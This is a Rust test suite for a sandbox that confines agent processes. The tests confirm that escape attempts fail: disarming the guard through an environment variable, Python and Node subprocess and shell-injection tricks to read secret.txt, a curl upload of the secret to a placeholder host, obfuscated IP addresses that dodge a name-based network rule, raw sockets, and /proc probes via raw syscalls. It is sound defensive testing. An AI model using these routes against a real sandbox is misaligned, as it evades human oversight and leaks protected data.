//! Ways around a guard that lives inside the program, or in what it is told to run: flags, variables, internals, other
//! programs' options. The guard here lives in none of them.

use crate::support::{OUTSIDE_V4, OUTSIDE_V6, Sandbox, everyone, has, skip};

const RULES: &str = "read: ./data\nwrite: ./out\n";

fn prepare(sandbox: &Sandbox, further: &str) {
    sandbox.file("secret.txt", "hidden");
    sandbox.file("data/in.txt", "granted");
    sandbox.directory("out");
    sandbox.policy(&format!("{RULES}{further}"));
}

/// Reads the file that is denied and the one that is granted, and writes beside the write root.
const AGENT: &str = "
def attempt(call):
    try: print(call())
    except OSError as error: print(type(error).__name__)
attempt(lambda: open('secret.txt').read())
attempt(lambda: open('outside', 'w'))
attempt(lambda: open(b'data/in.txt').read())
";
const SAID: &str = "PermissionError\nPermissionError\ngranted\n";

#[test]
fn no_flag_and_no_variable_of_an_interpreter_disarms_anything() {
    everyone(|sandbox| {
        prepare(
            sandbox,
            "read: ./agent.py, ./agent.js\nexec: python3\nexec: env\nexec: node\nenv: AGENTBOX_*, PYTHON*, NODE_*\n",
        );
        sandbox.file("agent.py", AGENT);
        for (name, value) in [
            ("AGENTBOX_ENFORCE", "0"),
            ("AGENTBOX_OBSERVE", "1"),
            ("PYTHONNOUSERSITE", "1"),
            ("NODE_OPTIONS", ""),
        ] {
            sandbox.environment(name, value);
        }
        for words in [
            &["python3", "agent.py"][..],
            &["python3", "-S", "agent.py"],
            &["python3", "-I", "agent.py"],
            &["python3", "-E", "-s", "-B", "agent.py"],
            &["env", "-i", "python3", "agent.py"],
            &["env", "-u", "PATH", "AGENTBOX_ENFORCE=0", "python3", "agent.py"],
        ] {
            let ran = sandbox.run(words);
            ran.exits(0).prints(SAID).denied("read", "secret.txt").denied("write", "outside");
            // As it was spelled, in bytes or not.
            ran.recorded("fs.open_read", "path", "data/in.txt");
        }
        if !has("node") {
            return skip("node", "it is not installed");
        }
        sandbox.file("agent.js", "try { console.log(require('fs').readFileSync('secret.txt', 'utf8')) } catch (e) { console.log(e.code) }");
        for words in [&["node", "agent.js"][..], &["env", "NODE_OPTIONS=", "node", "agent.js"]] {
            sandbox.run(words).exits(0).prints("EACCES\n").denied("read", "secret.txt");
        }
    });
}

#[test]
fn internals_of_python_are_no_way_around() {
    everyone(|sandbox| {
        prepare(sandbox, "");
        let program = "
import multiprocessing, os, subprocess, sys
sys.argv[0] = 'secret.txt'; sys.path.append('.')
for path in ['secret.txt', b'secret.txt', './secret.txt', 'data/../secret.txt']:
    try: print(open(path).read())
    except PermissionError: print('refused')
try:
    import readline
    for call in [readline.read_history_file, readline.write_history_file]:
        try: print(call('secret.txt'))
        except PermissionError: print('refused')
except ImportError: print('refused\\nrefused')
import _posixsubprocess
for words in [['/bin/cat', 'secret.txt'], ['/bin/sh', '-c', 'echo leak']]:
    try: print(subprocess.run(words, env={}).returncode)
    except PermissionError: print('refused')
try: print(os.spawnlp(os.P_WAIT, 'cat', 'cat', 'secret.txt'))
except PermissionError: print('refused')
print(os.system('echo leak; cat secret.txt'))
";
        let ran = sandbox.run(&["python3", "-c", program]);
        ran.exits(0);
        assert!(!ran.stdout.contains("hidden") && !ran.stdout.contains("leak"), "{ran}");
        let refused = "refused\n".repeat(8);
        assert!(ran.stdout.starts_with(&refused), "{ran}");
        // Looked for along PATH: one program, one denial in each place that it is in.
        let cats = ran.denials("exec").into_iter().filter(|entry| entry.to_string().contains("/cat"));
        assert!(cats.count() <= 2, "{ran}");
        assert_eq!(std::fs::read(sandbox.path("secret.txt")).expect("a file"), b"hidden");
    });
}

#[test]
fn a_shell_that_a_program_starts_is_judged_as_the_shell() {
    if !has("node") {
        return skip("node", "it is not installed");
    }
    everyone(|sandbox| {
        prepare(sandbox, "exec: echo\n");
        let program = "const { execSync, execFileSync, spawnSync } = require('child_process')
            for (const call of [() => execSync('echo leak; cat secret.txt'), () => execFileSync('echo', ['leak; cat secret.txt'], { shell: true }),
                () => spawnSync('echo leak', { shell: '/bin/bash' }).stdout, () => spawnSync('echo', ['fine']).stdout])
                try { console.log(String(call()).trim()) } catch (error) { console.log('refused') }";
        let ran = sandbox.run(&["node", "-e", program]);
        assert!(!ran.stdout.contains("leak") && ran.stdout.ends_with("fine\n"), "{ran}");
        ran.exits(0).denied("exec", "sh");
    });
}

#[test]
fn options_of_curl_read_and_write_nothing_else() {
    if !has("curl") {
        return skip("curl", "it is not installed");
    }
    everyone(|sandbox| {
        prepare(sandbox, "exec: curl\n");
        let fetch = |words: &[&str]| sandbox.run(&[&["curl", "-sS"], words].concat());
        let secret = format!("file://{}", sandbox.path("secret.txt").display());
        let ran = fetch(&[&secret]);
        assert!(ran.code != 0 && ran.stdout.is_empty(), "{ran}");
        ran.denied("read", "secret.txt");
        let granted = format!("file://{}", sandbox.path("data/in.txt").display());
        fetch(&[&granted]).exits(0).prints("granted");
        let ran = fetch(&["-o", "outside.bin", &granted]);
        assert!(ran.code != 0 && !sandbox.path("outside.bin").exists(), "{ran}");
        fetch(&["-K", "secret.txt", &granted]).denied("read", "secret.txt");
        fetch(&["-T", "secret.txt", "http://nowhere.test/"]).denied("read", "secret.txt");
    });
}

#[test]
fn addresses_are_no_way_around_a_rule_for_a_name() {
    if let Some(missing) = Sandbox::outside_lacks().or_else(|| (!has("curl")).then_some("curl")) {
        return skip(missing, "it is not installed");
    }
    const SERVER: &str = "
import http.server, socket, sys, threading
class Web(http.server.ThreadingHTTPServer): address_family = socket.AF_INET6
threading.Thread(target=Web(('::', 8000), http.server.SimpleHTTPRequestHandler).serve_forever).start()
open(sys.argv[1], 'w')";
    everyone(|sandbox| {
        sandbox.policy("exec: /**\nnet: open.test:8000\n");
        let script = format!(
            "for at in {OUTSIDE_V4} '[{OUTSIDE_V6}]' 1572395042 0x5db8d822 '[::ffff:{OUTSIDE_V4}]' 127.0.0.1; do
                curl -sS -g -m 9 --noproxy '*' http://$at:8000/ && echo leak
                env -i curl -sS -g -m 9 --noproxy '*' http://$at:8000/ && echo leak
            done
            python3 -c 'import socket
for family in (2, 10, 17):
    try: print(\"leak\", socket.socket(family, 3, 255))
    except OSError: print(\"refused\")'"
        );
        let ran = sandbox.run_outside(SERVER, &[], &["sh", "-c", &script]);
        ran.exits(0).prints("refused\nrefused\nrefused\n").denied("net", &format!("{OUTSIDE_V4}:8000"));
        ran.denied("net", &format!("[{OUTSIDE_V6}]:8000"));
        assert!(ran.of("http.exchange").is_empty(), "{ran}");
    });
}

/// What the kernel answers by the namespaces of whoever opens it would be the host's, where the guard opens.
#[test]
fn no_open_of_the_guards_own_tells_of_the_hosts_namespaces() {
    everyone(|sandbox| {
        let program = "import ctypes, errno, os, struct
libc = ctypes.CDLL(None, use_errno=True)
def plainly(path): return os.open(path, os.O_RDONLY)
def anew(path):
    opened = libc.syscall(437, -100, path.encode(), struct.pack('QQQ', 0, 0, 0), 24)
    if opened < 0: raise OSError(ctypes.get_errno(), path)
    return opened
for opens in (plainly, anew):
    refused = []
    for path in ('/proc/sys/net/core/netdev_rss_key', '/proc/sys/net/ipv4/conf', '/proc/sysvipc/shm',
                 '/proc/sys/net/none/x'):
        try: opened = opens(path)
        except OSError as error:
            refused.append(error.errno != errno.ENOENT)
            continue
        shown = os.listdir(opened) if path.endswith('conf') else os.read(opened, 4096).decode().splitlines()[1:]
        if sorted(shown) not in ([], ['all', 'default', 'lo']): print(opens.__name__, path, shown)
    # Refused are all alike: none says what the host has.
    if len(set(refused)) > 1: print(opens.__name__, refused)";
        sandbox.policy("exec: python3").python(program).exits(0).prints("");
        sandbox.policy("write: .\ndeny: read ./shut\nexec: python3").python(program).exits(0).prints("");
    });
}
